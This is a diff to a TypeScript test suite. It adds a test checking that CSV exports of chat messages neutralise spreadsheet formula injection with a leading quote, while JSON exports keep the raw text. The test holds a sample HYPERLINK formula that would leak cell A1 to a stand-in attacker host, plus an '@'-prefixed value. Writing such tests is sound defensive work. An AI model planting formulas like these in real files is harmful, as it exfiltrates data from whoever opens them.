@@ -190,6 +190,20 @@ describe('CSV', () => {
     expect(readCsv(second.text)[1]![0]).toBe(sessionIds[1]);
   });
 
+  it('neutralises formula cells with a leading single quote (CSV injection), JSON stays as sent', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
+    const since = new Date(Date.now() - 1000).toISOString();
+    const visitor = await createTestOrg(keygate.url, 'Formula Co');
+    const visitorApi = (await visitor.secretKey()).api;
+    const s = await visitorApi.post('/v1/chat/sessions', { metadata: { note: '@evil' } });
+    expect((await postMessage(keygate.url, s.body.sessionId, s.body.token, { content: formula })).status).toBe(200);
+    const query = (resource: string, format: string) => `/api/export?${new URLSearchParams({ resource, format, from: since })}`;
+    const rows = readCsv((await visitorApi.get(query('messages', 'csv'))).text);
+    expect(rows[1]![3]).toBe(`'${formula}`);
+    const json = await visitorApi.get(query('messages', 'json'));
+    expect(json.body.items[0].content).toBe(formula);
+  });
+
   it('usage as CSV', async () => {
     const res = await api.get('/api/export?resource=usage&format=csv');
     const rows = readCsv(res.text);
